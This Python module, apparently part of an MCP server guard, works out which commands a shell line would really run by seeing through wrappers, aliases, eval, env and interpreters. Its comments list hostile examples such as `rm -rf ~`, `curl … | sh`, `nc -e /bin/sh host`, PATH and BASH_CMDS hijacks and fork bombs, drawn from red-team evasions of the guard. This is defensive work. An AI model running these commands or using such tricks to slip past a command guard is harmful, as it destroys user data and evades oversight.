"""The commands a line would really run: wrappers, shell strings, aliases and assignments looked through.

``sudo env X=1 sh -c 'rm -rf ~'`` runs ``rm``: the ``Expander`` walks the parsed line (``parsing``), each simple
command through its wrappers (``wrappers``), the code of shells and interpreters (``runners``), what its stdin feeds
it (``feeds``), and what it writes (``writes``), to every effective command with its static words (an argument only
run time knows is ``RUN_TIME_ARG``), and every *finding*: what cannot be decided before running (``eval``,
``$cmd``, ``curl … | sh``, a redirect only run time places, code in data …).

It decides nothing: matching the commands against the rules, and weighing the findings, is the engine's
(``rules``).
"""

from __future__ import annotations

import posixpath
import re
import shutil
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass

from mcp_server_guard.env_names import is_command_valued, runs_code
from mcp_server_guard.patterns import deferred
from mcp_server_guard.shell.strings.assignments import (
    exported_words,
    line_exports,
    option_variables_reach,
    pip_words,
    with_option_variables,
)
from mcp_server_guard.shell.strings.code_texts import awk_writes, sed_write_targets, sed_writes
from mcp_server_guard.shell.strings.commands import Command, Finding, Parsed, Redirect, Word
from mcp_server_guard.shell.strings.feeds import (
    FETCHES,
    NO_FEED,
    REMOTE,
    Feed,
    feed_of,
    judge_code_files,
    judge_stdin_lines,
    judge_stdin_substitutions,
)
from mcp_server_guard.shell.strings.matching import RUN_TIME_ARG, kills_everything
from mcp_server_guard.shell.strings.outside import outside_findings
from mcp_server_guard.shell.strings.parsing import MAX_COMMANDS, TooComplex, parse
from mcp_server_guard.shell.strings.places import changed_dir, places
from mcp_server_guard.shell.strings.places import outside as is_outside
from mcp_server_guard.shell.strings.run_options import NETWORK_FED, awk_programs, option_commands, sed_scripts
from mcp_server_guard.shell.strings.runners import (
    INTERPRETERS,
    SHELLS,
    expand_interpreter,
    expand_shell,
    expand_source,
    interpreter_name,
)
from mcp_server_guard.shell.strings.unknown_programs import DATA_PROGRAMS, named_words, run_texts
from mcp_server_guard.shell.strings.words import expand_braces
from mcp_server_guard.shell.strings.wrappers import BUILT, DYNAMIC, UNKNOWN, Inner, unwrap
from mcp_server_guard.shell.strings.writes import (
    Where,
    destination_findings,
    downloaded_files,
    redirect_findings,
    redirected_downloads,
    system_target,
    variable_findings,
)

# Variables that only add places a program looks for its modules (the project's own, as a rule).
_SEARCH_PATHS = frozenset({"PYTHONPATH", "NODE_PATH", "PERL5LIB", "PERLLIB", "RUBYLIB", "CLASSPATH", "GOPATH"})
_MAX_DEPTH = 8
# Programs that run code named by a URL as it arrives.
_URL_RUNNERS = frozenset({"deno", "bun", "npx", "pnpx", "bunx", "uvx", "pipx", "go", "java", "jbang", "tcc"})
# Programs that run their command in a container or on another host (fed REMOTE).
_ELSEWHERE = frozenset({"docker", "podman", "nerdctl", "kubectl", "oc", "ssh", "rsh", "lxc", "incus"})
# Denied programs whose bare name, among an unknown program's arguments, is taken for the command it runs.
_PAYLOAD_NAMES = frozenset({"rm", "dd", "shred", "shutdown", "reboot", "poweroff", "halt", "wipefs", "mkfs"})
# `while true; do sleep 1 & done`: an endless loop whose body puts something in the background (`&`, not `&&`).
# An endless loop whose body starts a background process (`while true; do x & done`): the loop's head, then its
# body up to `done`, searched one head at a time (``_spawns_forever``) so that no text is scanned twice.
_ENDLESS_HEAD = deferred(
    r"\b(?:while\s+(?:true|:|\[\s*1\s*\]|\(\(\s*1\s*\)\))|until\s+false|for\s*\(\(\s*;\s*;\s*\)\))\s*;?\s*do\b"
)
_FORKING_BODY = deferred(r"(?:(?!\bdone\b).)*?[^&|>]&(?!&)\s*(?:;|\n|done\b)", re.DOTALL)
_DONE = deferred(r"\bdone\b")
# Threat (time): a value that cannot hold `=` keeps each match attempt short (`IFS=IFS=IFS=…` was quadratic).
_READ_IFS = deferred(r"\bIFS=(?:'[^']*'|\"[^\"]*\"|[^\s;&|=]*)\s+(?:read|mapfile|readarray)\b")


def _spawns_forever(source: str) -> bool:
    """An endless loop that forks each time round. Threat (time): a line of 10,000 loop heads and no `done` made a
    single search quadratic; a body already scanned without a fork is not scanned again from a later head."""
    scanned_to = 0
    for head in _ENDLESS_HEAD.finditer(source):
        if head.end() < scanned_to:
            continue
        if _FORKING_BODY.match(source, head.end()):
            return True
        done = _DONE.search(source, head.end())
        scanned_to = done.end() if done else len(source)
    return False


_NAMEREF = deferred(r"\b(?:declare|typeset|local|export)\s+(?:-\w+\s+)*-\w*n")


_PROMPTS = frozenset({"PS1", "PS2", "PS3", "PS4"})
# A prompt's text whose expansions are only of bash's own trace variables (nothing a line or its input sets).
_TRACE_ONLY = deferred(
    r"""["']?(?:[^$`"'\\]|\$\{?(?:BASH_SOURCE|LINENO|FUNCNAME|BASH_LINENO|BASHPID|SECONDS|EPOCHREALTIME|"""
    r"""EPOCHSECONDS|BASH_SUBSHELL|SHLVL)(?:\[\d+\])?\}?)*["']?"""
)


def _path_text(word: Word | None) -> str:
    """A PATH value the line assigns, as text (its expansions of $PATH and $HOME kept for ``_check_program``); ""
    where only run time knows it (``read PATH``, a command substitution, another variable)."""
    if word is None:
        return ""
    if word.value is not None:
        return word.value
    text = word.raw.replace('"', "").replace("'", "")
    return "" if re.search(r"\$(?!\{?(PATH|HOME)\b)", text) else text


def _fed_paths(words: list[Word], feed: Feed) -> list[Word]:
    """Threat: `find / -name x | xargs rm`: what xargs appends is paths under find's start point; where that is a
    place outside the project, the command is judged as acting there (its words stand for a path below it)."""
    upstream = feed.upstream if feed.kind == "pipe" else None
    head = upstream.words[0].value if upstream is not None and upstream.words else None
    if upstream is not None and head in ("echo", "printf") and all(w.value is not None for w in upstream.words[1:]):
        # `echo ~ | xargs rm -rf`: the words echo prints are the arguments xargs appends.
        data = [Word(w.value, w.raw) for w in upstream.words[1:] if not (w.value or "").startswith("-")]
        return [part for w in words for part in (data if w is UNKNOWN and data else [w])]
    if upstream is None or head not in ("find", "fd", "fdfind", "locate", "plocate"):
        return words
    start = next((w.value for w in upstream.words[1:] if w.value and not w.value.startswith("-")), None)
    if head in ("locate", "plocate"):
        start = "/"
    if start is None or not (start.startswith(("/", "~")) or start.startswith("..")):
        return words
    below = start.rstrip("/") + "/…"
    return [Word(below, w.raw) if w is UNKNOWN else w for w in words]


def command_line_of(name: str, value: str) -> str:
    """The command line a command-valued variable makes some program run.

    ``LESSOPEN='|cmd %s'`` (or ``||cmd``) runs ``cmd`` with the file name in place of ``%s``."""
    if name in ("LESSOPEN", "LESSCLOSE"):
        value = value.lstrip("|-")
    return value.replace("%s", "FILE")


@dataclass
class Found:
    """One effective command, or one finding, with where it came from."""

    argv: list[str] | None
    text: str
    finding: Finding | None = None
    moved: bool = False  # the line changed directory to a place outside the project before it


class Expander:
    """Looks through wrappers, shell strings and assignments to the commands that would really run."""

    def __init__(self, env: Mapping[str, str], base_path: str, known: frozenset[str] = frozenset()) -> None:
        self.known = known  # programs the policy's rules name: judged by those rules, not looked through
        self.known_runs: frozenset[str] = frozenset()  # programs a deny rule names: a disguise's usual payload
        self.found: list[Found] = []
        self.redirects: list[Redirect] = []
        self.env = env  # the call's own variables (already checked against the refused names)
        self.base_path = base_path
        self.stdin_code = ""  # what reads the call's or job's stdin as program text (Verdict.stdin_code)
        self.fetches = False  # the line downloads something (curl, wget …): what it builds at run time may be that
        self.reaches_outside: Callable[[list[str]], bool] = lambda _args: False
        self.home_path = ""  # what ~ names, spelled out
        self.downloaded: set[str] = set()  # files the line downloads (curl -o, wget)
        self.aliases: dict[str, str] = {}  # aliases the line defines
        self.moved = False  # the line has changed directory to a place outside the project (cd ~, cd /, cd ..)
        self.roots: tuple[str, ...] = ()  # the allowed directories, spelled out (the first: where the line starts)
        self.where = Where()  # where the line's relative paths may land (``writes.Where``), grown line by line
        self.line_paths: list[str] = []  # PATH values the line sets anywhere ("": one only run time knows)
        self.cwd: str | None = ""  # where the walk is (absolute; "": where the line starts, None: unknown)
        self.stack: list[str | None] = []  # pushd's directories
        self.strict_names = False  # an allow-list judges: a name must be the program it names, installed or not
        self.exported: dict[str, Word] = {}  # variables the line exports (`export PIP_USER=1; pip install x`)

    def finding(self, kind: str, detail: str) -> None:
        """Something about the line that cannot be decided before running (the engine weighs it)."""
        self.found.append(Found(None, detail, Finding(kind, detail)))

    def record(self, findings: Iterable[Finding]) -> None:
        """Findings made elsewhere (the parser's, a write check's), in their order."""
        self.found.extend(Found(None, item.detail, item) for item in findings)

    def line(self, source: str, depth: int, feed: Feed = NO_FEED) -> None:
        """Every command of ``source``; ``feed`` is what the line's own stdin is (its commands inherit it)."""
        if depth > _MAX_DEPTH:
            self.finding("too-deep", "shell strings nested too deeply to analyse")
            return
        parsed: Parsed = parse(source)
        self.fetches = self.fetches or FETCHES.search(source) is not None
        self.downloaded.update(redirected_downloads(source))  # `curl -s URL > i.sh; bash i.sh`
        self.redirects.extend(parsed.redirects)
        self.where = places(parsed.commands, self.where, self.cwd, self.stack, self.home_path, self.roots)
        self.line_paths += [_path_text(w) for w in parsed.assigned.get("PATH", [])]
        for name in _PROMPTS & parsed.assigned.keys():  # standalone, printf -v, read: as a prefix would be
            for word in parsed.assigned[name]:
                self._prompt(name, word, depth)
        if {"BASH_CMDS", "BASH_ALIASES"} & parsed.assigned.keys():
            # `BASH_CMDS[ls]=/usr/bin/rm; ls -rf ~`: bash's table of names to programs, filled by the line (red team 21)
            self.finding("path-override", "BASH_CMDS makes a name run another program")
        self.record(redirect_findings(parsed.redirects, self.where))
        self.record(parsed.findings)
        if parsed.evaluates_run_time:
            judge_stdin_substitutions(self, feed, depth)  # `read n; (( n ))` fed `a[$(shutdown -h now)]`
        for code in parsed.evaluated_code:
            self.line(": " + code, depth + 1)  # x='a[$(rm -rf ~)]'; $((x)) runs rm: judge what it runs
        for name in sorted(parsed.evaluated_from_env & set(self.env)):
            if re.search(r"[$`]", self.env[name]):
                self.finding("code-in-data", f"${name} from the call's env is evaluated as code")
        # Threat: `IFS=,; c=rm,-rf,x; $c`. The parser splits a variable's known value on blanks; with IFS set in
        # the line bash splits it on other characters, so such words are only known at run time.
        # Threat: `IFS=_ x=1 c=shutdown_-h_now; $c`, `IFS+=_`, `read IFS`, `declare -n r=c; c='rm -rf ~'; $r`: once IFS
        # changes (other than for one `read`) or a name refers to another, unquoted expansions are run-time words.
        ifs = bool(re.search(r"\bIFS\b", _READ_IFS.sub("", source))) or _NAMEREF.search(source) is not None
        if _spawns_forever(source):
            self.finding("fork-bomb", "an endless loop starts a background process each time round")
        # (exported anywhere in the line: it reaches every command of it, `f() { pip …; }; export PIP_USER=1; f`)
        exports = line_exports([(c.words, c.assignments) for c in parsed.commands], parsed.assigned)
        self.exported.update(exports)
        for name in exports:  # `LD_PRELOAD=x.so; export LD_PRELOAD; ls`, `set -a; PAGER=…`: set for what follows
            given = parsed.assigned.get(name, ())
            self.assignments([(name, w if w is not None else Word(None, f"${name}")) for w in given], depth)
        for command in parsed.commands:
            if command.words and command.words[0].value == "exec" and len(command.words) == 1:
                # `exec <<< '…'; bash`: exec with only redirections gives the rest of the line that stdin.
                feed = feed_of(command, feed)
            if ifs:
                command.words = [
                    Word(None, w.raw, split=True) if w.split or w.raw.startswith("$") else w for w in command.words
                ]
            self.command(command, depth, feed_of(command, feed))

    def command(self, command: Command, depth: int, feed: Feed = NO_FEED) -> None:
        """One simple command of a parsed line: its assignments, then its words."""
        if command.assignments:
            reads = bool(command.words) and command.words[0].value in ("read", "mapfile", "readarray")
            # `while IFS= read -r line`: IFS set for the read builtin only decides how it splits a line of data.
            self.assignments([(n, w) for n, w in command.assignments if not (reads and n == "IFS")], depth)
        words = command.words
        if not words:
            return
        if any(w.prompt_expansion for w in words):
            self.finding("prompt-expansion", "${var@P} expands a value like a prompt (it can run commands)")
        declares = words[0].value in ("export", "declare", "typeset", "local", "readonly")
        path_word = None if declares else next((w for name, w in command.assignments if name == "PATH"), None)
        if path_word is not None and path_word.value is None:
            self.finding("path-override", "PATH is set to a value only known at run time")
        if words[0].value == "export" or (
            words[0].value in ("declare", "typeset") and any(re.fullmatch(r"-\w*x\w*", w.value or "") for w in words)
        ):
            self.exported.update(exported_words(words[1:]))
            self.exported.update(command.assignments)  # (the parser gives a declaration's NAME=value so)
        # (`PIP_USER=1 pip install x`, or exported before, or in the call's env: pip's --user)
        self._pip_variables(words, self._variables(command.assignments))
        words = with_option_variables(words, self._variables(command.assignments))
        self.argv(words, command, depth, path=path_word.value if path_word is not None else None, feed=feed)

    def _pip_variables(self, words: Sequence[Word], variables: Sequence[tuple[str, Word]]) -> None:
        """A pip or uv variable given to a program that may run them (``assignments.option_variables_reach``)."""
        name = option_variables_reach(words, variables)
        if name:
            self.finding("pip-variable", f"{name}=… reaches {words[0].raw}: whatever pip or uv it runs takes it")

    def _variables(self, assignments: Sequence[tuple[str, Word]]) -> list[tuple[str, Word]]:
        """The variables a command is given: those the line exported before it (the call's env is judged as an
        ``export`` line before it: ``rules``), its own."""
        return [*self.exported.items(), *assignments]

    def assignments(self, assignments: Sequence[tuple[str, Word]], depth: int) -> None:
        """Threat: `LESSOPEN='|sh x' less f`, `GIT_CONFIG_COUNT=… git …`, `LD_PRELOAD=… x` — variables that
        make the program run other code, set for one command."""
        for name, word in assignments:
            self.record(variable_findings(name, word.value, self.where))  # `SSLKEYLOGFILE=~/.bashrc curl …`
            if name in _PROMPTS:
                self._prompt(name, word, depth)
            elif is_command_valued(name):
                self.finding("command-variable", f"{name}=… names a program that will be run")
                if word.value is None:
                    self.finding("dynamic-shell-string", f"{name} names a command only known at run time")
                elif word.value:
                    self.line(command_line_of(name, word.value), depth + 1)
            elif runs_code(name):
                kind = "search-path" if name in _SEARCH_PATHS else "env-code"
                self.finding(kind, f"{name}=… makes the program load code or settings chosen here")

    def _prompt(self, name: str, word: Word | None, depth: int) -> None:
        """A prompt variable (PS4 with ``set -x``, PS1…PS3) has its value expanded as a prompt, which runs the
        ``$(…)`` and backquotes in it: those are judged as command lines; a value only run time knows (``read PS4``,
        ``printf -v PS4``, ``PS4=$(cat f)``) is undecidable (red team 21). `PS4='+ ${BASH_SOURCE}:${LINENO}: '` runs
        nothing."""
        text = None if word is None else word.value
        if text is None and word is not None and _TRACE_ONLY.fullmatch(word.raw):
            text = word.raw  # `"+ ${BASH_SOURCE}:${LINENO}: "`: bash's own trace variables, no code
        if text is None:
            self.finding("code-in-data", f"{name}'s value, only known at run time, is expanded as a prompt")
            return
        for code in re.findall(r"\$\(([^()]*)\)|`([^`]*)`", text):
            self.line(code[0] or code[1], depth + 1)
        if re.search(r"\$\([^()]*\(", text):
            self.finding("code-in-data", f"{name}'s value holds nested substitutions, run when it is expanded")

    def argv(
        self,
        words: Sequence[Word],
        command: Command | None,
        depth: int,
        path: str | None = None,
        feed: Feed = NO_FEED,
    ) -> None:
        """One command's words (``path``: the PATH it is run with): the effective command, then what it runs."""
        if not words:
            return
        # Threat: r``m -rf ~ — bash runs the (empty) command substitution; a word holding a backtick that bash
        # would take for one is only known at run time.
        words = [Word(None, w.raw) if "`" in (w.value or "") and "`" in w.raw.replace("\\`", "") and not
                 w.raw.startswith("'") else w for w in words]  # fmt: skip
        head = words[0]
        text = command.text if command is not None else " ".join(w.raw for w in words)
        if head.split and head.value is not None and len(head.value.split()) > 1:
            # Threat: `x='rm -rf ~'; $x` — bash splits the value into words: the first is the program.
            split = head.value.split()
            words = [Word(split[0], head.raw), *(Word(part, head.raw) for part in split[1:]), *words[1:]]
            head = words[0]
        if head.static is None:
            # `$PYTHON -m pytest`, `"$(go env GOPATH)/bin/lint"`: on a copy, judged by what it does; one split by a
            # changed IFS or fed by a download stays undecidable.
            static = [w.value for w in words[1:] if w.value is not None]
            outside = self.reaches_outside(static)  # `$(echo rm) -rf ~`: whatever runs, it acts outside
            kind = "dynamic-command" if head.split or self.fetches or outside else "dynamic-program"
            self.finding(kind, f"the program name {head.raw!r} is only known at run time")
            judge_stdin_lines(self, "a program named at run time", feed, depth)  # `$(cat)`, `read l; $l`
            return
        if len(self.found) >= MAX_COMMANDS:
            raise TooComplex(f"the command line runs more than {MAX_COMMANDS} commands")
        argv = [words[0].value or ""]
        for word in words[1:]:
            if word.value is None:
                argv.append(RUN_TIME_ARG)
            elif word.glob and "{" in word.raw:
                argv.extend(expand_braces(word.value))  # rm {-rf,x} is rm -rf x
            elif word.split and word.value.split() != [word.value]:
                argv.extend(word.value.split())  # F="-r -f"; rm $F
            else:
                argv.append(word.value)
        self._check_program(argv[0], path)
        program = posixpath.basename(argv[0])
        if program in self.aliases and depth <= _MAX_DEPTH:
            # Threat: `alias r='rm -rf'` then `r ~`: the alias is what runs.
            self.line(f"{self.aliases.pop(program)} {' '.join(w.raw for w in words[1:])}", depth + 1, feed)
            return
        if program in ("cd", "pushd", "popd"):
            # Followed in order: `cd build && cmake .. && cd .. && rm -rf build` is back in the project (fuzz 21).
            args = [None if a == RUN_TIME_ARG else a for a in argv[1:]]
            self.cwd = changed_dir(self.cwd, self.stack, program, args, self.home_path)
            self.moved = is_outside(self.cwd, self.roots, self.home_path)
        self.found.append(Found(argv, text, moved=self.moved))
        program = posixpath.basename(argv[0])
        rest = list(words[1:])
        self.record(destination_findings(program, argv, self.where, self.moved))
        self.record(outside_findings(program, argv, self.where.spellings, self.where.home))
        if kills_everything(program, argv):
            self.finding("kill-everything", f"{program}'s pattern matches nearly every process")
        if program in ("awk", "gawk", "mawk", "nawk"):
            for text in awk_programs(rest):
                writes, targets = awk_writes(text)
                if writes:  # (a fact; the read-only list refuses it: red team 21, a `;` in a string hid the write)
                    self.finding("script-writes", "awk's program writes a file or runs a command")
                if any(system_target(target, self.where) for target in targets):
                    self.finding("system-write", "awk writes a file of the system or the shell")
        if program == "sed":
            scripts = sed_scripts(rest)
            if any(sed_writes(script) for script in scripts):
                # (a fact, not a doubt: allowed unless a policy says otherwise; the read-only list refuses it)
                self.finding("script-writes", "sed's script writes a file or runs a command (w, W, e)")
            for target in [t for script in scripts for t in sed_write_targets(script)]:
                if system_target(target, self.where):  # `sed -n 'w ~/.bashrc' f` (red team 21)
                    self.finding("system-write", f"sed writes {target}, a file of the system or the shell")
        self._downloads(program, argv)
        if program in _URL_RUNNERS and any(a.startswith(("http://", "https://")) for a in argv[1:]):
            # Threat: `deno run -A https://…`, `npx https://x/evil.tgz`: code fetched and run as it arrives.
            self.finding("remote-code", f"{program} runs code from a URL")
        for inner_text in option_commands(interpreter_name(program) or program, rest):
            # `nc -e /bin/sh host`: the shell's stdin is the connection, so its script comes from elsewhere.
            self.inner(program, inner_text, depth, Feed("pipe") if program in NETWORK_FED else feed)
        self._by_kind(program, rest, depth, feed, argv[0])

    def _by_kind(self, program: str, rest: list[Word], depth: int, feed: Feed, head: str = "") -> None:
        """What the command runs, by what kind of program it is: eval, a shell, an interpreter, env, a wrapper …"""
        if program == "eval":
            if rest and all(w.value is not None for w in rest):
                # eval 'static text': judge the text, with the line's stdin (`eval 'eval "$(cat)"'`)
                self.line(" ".join(w.value or "" for w in rest), depth + 1, feed)
            else:
                if any(FETCHES.search(w.raw) for w in rest):
                    self.finding("remote-code", "eval runs a string fetched from the network")
                # `eval "$(pyenv init -)"`: on a copy, judged by what it does; with a download in the line, never.
                self.finding("eval" if self.fetches else "dynamic-eval", "eval runs a string built at run time")
                judge_stdin_lines(self, "eval", feed, depth)
        elif program == "hash" and any(
            w.value is None or ((w.value or "").startswith("-") and "p" in (w.value or "")) for w in rest
        ):
            # Threat: `hash -p /sbin/shutdown ls; ls -h now` — a name that then runs another program.
            self.finding("path-override", "hash -p makes a name run another program")
        elif program == "enable" and any((w.value or "").startswith("-") and "f" in (w.value or "") for w in rest):
            self.finding("env-code", "enable -f loads a builtin from a shared object")
        elif program in ("source", "."):
            expand_source(self, program, rest, depth, feed)
        elif program in SHELLS or (program == "busybox" and rest and rest[0].value in SHELLS):
            expand_shell(self, rest if program != "busybox" else rest[1:], depth, feed)
        elif program == "newgrp" or (program == "sg" and len([w for w in rest if w.value != "-"]) <= 1):
            # `newgrp G <<< cmd`, `sg G` alone: a shell under the new group, reading the line's stdin (red team 20 F1)
            expand_shell(self, [], depth, feed)
        elif program in INTERPRETERS or interpreter_name(program):
            expand_interpreter(self, program, rest, feed, depth)
            pip = pip_words([Word(program, program), *rest])
            if pip:  # `python3 -m pip install --user x`: judged as pip is
                self.argv(pip, None, depth + 1, feed=feed)
            if not interpreter_name(program):  # julia, guile, clisp …: the literal commands of their code options
                for code in run_texts(program, rest):
                    self.inner(program, code, depth, feed)
        elif program == "env":
            self._env(rest, depth, feed)
        elif program in ("alias", "mapfile", "readarray"):
            self._code_words(program, rest, depth)
        else:
            judge_code_files(self, program, rest, feed, depth)
            inner = unwrap(program, rest)
            if program == "xargs" and isinstance(inner, list):
                inner = [_fed_paths(part, feed) for part in inner]
            if inner is None and program in ("ssh", "rsh") and feed.kind != "none":
                # `ssh host <<< 'rm -rf ~'`: with no command, the remote login shell runs what stdin holds (red
                # team 21; localhost is this machine) — judged as a shell's script, as `ssh host 'cmd'` is.
                expand_shell(self, [], depth, feed)
            elif inner is None and program not in DATA_PROGRAMS:
                self._unknown(program, rest, depth, feed, head)
            # A wrapper's command reads the wrapper's stdin (xargs' reads nothing: xargs takes it); a container's or
            # a remote host's shell is not one this machine starts.
            inner_feed = NO_FEED if program in ("xargs", "parallel") else REMOTE if program in _ELSEWHERE else feed
            self.inner(program, inner, depth, inner_feed)

    def _unknown(self, program: str, rest: list[Word], depth: int, feed: Feed, head: str = "") -> None:
        """A program no rule and no table here knows. Threat: a wrapper nobody listed (`aa-exec /bin/sh`, `choom -n 0
        rm -rf ~`, `logsave /dev/null /bin/sh -i`) and a code option nobody listed (`lua -e 'os.execute("…")'`).
        The first word that names a shell or a program a rule denies is taken for the command it runs, with the
        words after it; literal command lines in its code options are judged."""
        named = named_words(head, rest)  # (`ip a sh`: an abbreviated command, not a shell)
        for i, word in enumerate(rest):
            if i in named:
                continue
            value = word.value or ""
            name = posixpath.basename(value)
            # A shell by name or path; a denied program by path, or by one of the names only a disguise would use.
            if name in SHELLS or (name in self.known_runs and ("/" in value or name in _PAYLOAD_NAMES)):
                self.argv(rest[i:], None, depth + 1, feed=feed)
                break
            # One word that is itself a command line starting with a shell or such a program (`pixi run 'rm -rf ~'`,
            # `sops exec-env f 'sh x'`): what a wrapper nobody listed hands to a shell (red team 20 F1).
            first = value.split(maxsplit=1)[0] if value.strip() else ""
            if " " in value.strip() and (
                posixpath.basename(first) in SHELLS or posixpath.basename(first) in self.known_runs
            ):
                self.line(value, depth + 1)
        for text in run_texts(program, rest):
            self.inner(program, text, depth, feed)

    def _downloads(self, program: str, argv: list[str]) -> None:
        """Threat: `curl -o i.sh URL && bash i.sh`, `wget URL/x.sh; sh x.sh`: a file downloaded and run in the same
        line is code fetched from the network and run as it arrives."""
        if program in ("curl", "wget"):
            self.downloaded.update(downloaded_files(program, argv))
            return
        if not self.downloaded:
            return
        run = [argv[0]]
        if program in SHELLS or program in INTERPRETERS or interpreter_name(program) or program in ("source", "."):
            run += [a for a in argv[1:] if not a.startswith("-")][:1]
        if any(posixpath.normpath(r) in self.downloaded for r in run if r != RUN_TIME_ARG):
            self.finding("remote-code", f"{program} runs a file this line downloads")

    def inner(self, program: str, inner: Inner, depth: int, feed: Feed) -> None:
        """What a wrapper or a run-this option runs: a command line, commands, or text only run time knows."""
        if isinstance(inner, str):
            self.line(inner, depth + 1)
        elif inner is DYNAMIC:
            self.finding("dynamic-shell-string", f"{program} runs a command string only known at run time")
        elif inner is BUILT:
            self.finding("code-built-command", f"{program} code runs a command line it builds at run time")
        elif isinstance(inner, list):
            for part in inner:
                if len(part) == 1 and part[0].value is not None and " " in part[0].value.strip():
                    # One word with blanks where a program goes: the runner hands it to a shell (`pixi run 'rm -rf
                    # ~'`, a task string); no program is named so (red team 20 F1).
                    self.line(part[0].value, depth + 1)
                    continue
                self.argv(part, None, depth + 1, feed=feed)

    def _check_program(self, name: str, path: str | None) -> None:
        """Threat: `PATH=./fake:$PATH ls`, the call's env PATH, or PATH set anywhere in the line (`declare PATH=bin;
        ls`, `printf -v PATH %s bin`, `read PATH`: red team 20 F10) running a look-alike `ls` from the project. The
        program judged must be the one that runs: a name PATH resolves elsewhere is undecidable."""
        if "/" in name or name == RUN_TIME_ARG:
            return
        paths: list[str | None] = [path] if path is not None else [*self.line_paths] or [self.env.get("PATH")]
        for effective in paths:
            if effective is None:
                continue
            if effective == "":
                self.finding("path-override", "PATH is set to a value only known at run time")
                return
            home = self.home_path.rstrip("/")
            spelled = effective
            for name_of, value in (("PATH", self.base_path), ("HOME", home)):
                spelled = spelled.replace(f"${{{name_of}}}", value).replace(f"${name_of}", value)
            relative = any(not entry.startswith("/") for entry in spelled.split(":"))  # from the cwd, or unknown
            usual = shutil.which(name, path=self.base_path)
            # (A program the usual PATH lacks is judged as unknown anyway — `PATH=./node_modules/.bin:$PATH; eslint`
            # — except under an allow-list, which names programs by name: red team 20 F10.)
            known = usual is not None or path is not None or self.strict_names
            if known and (relative or shutil.which(name, path=spelled) != usual):
                self.finding("path-override", f"PATH makes {name!r} run a different program than the usual one")
                return

    def _env(self, rest: list[Word], depth: int, feed: Feed) -> None:
        assignments: list[tuple[str, Word]] = []
        i = 0
        while i < len(rest):
            value = rest[i].value
            if value is None:
                break
            if value == "--":
                i += 1
                break
            if value in ("-S", "--split-string") or value.startswith(("-S", "--split-string=")):
                line = (
                    " ".join(w.value or "" for w in rest[i + 1 :])
                    if value in ("-S", "--split-string")
                    else value[2:]
                    if value.startswith("-S")
                    else value.partition("=")[2]
                )
                if value in ("-S", "--split-string") and any(w.value is None for w in rest[i + 1 :]):
                    self.finding("dynamic-shell-string", "env -S runs a command string only known at run time")
                else:
                    self.line(line, depth + 1)
                return
            if value in ("-u", "-C", "--unset", "--chdir"):
                i += 2
                continue
            if value.startswith("-") and len(value) > 1:
                i += 1
                continue
            if "=" in value and not value.startswith("="):
                name, _, assigned = value.partition("=")
                assignments.append((name, Word(assigned, rest[i].raw)))
                i += 1
                continue
            break
        self.assignments(assignments, depth)
        path = next((w.value for name, w in assignments if name == "PATH"), None)
        if i < len(rest):
            self._pip_variables(rest[i:], self._variables(assignments))
            self.argv(with_option_variables(rest[i:], self._variables(assignments)), None, depth + 1, path=path,
                      feed=feed)  # fmt: skip

    def _code_words(self, program: str, rest: list[Word], depth: int) -> None:
        """`alias x='…'` and `mapfile -C '…'`: strings bash later runs as commands."""
        if program == "alias":
            for word in rest:
                if word.value is None:
                    self.finding("dynamic-shell-string", "alias defines a command only known at run time")
                elif "=" in word.value:
                    name, _, value = word.value.partition("=")
                    self.aliases[name] = value
                    self.line(value, depth + 1)
            return
        for i, word in enumerate(rest):
            if (word.value or "").startswith("-C"):
                callback = word.value[2:] if word.value and len(word.value) > 2 else None
                if callback is None and i + 1 < len(rest):
                    callback = rest[i + 1].value
                if callback is None:
                    self.finding("dynamic-shell-string", f"{program} -C runs a callback only known at run time")
                else:
                    self.line(callback, depth + 1)
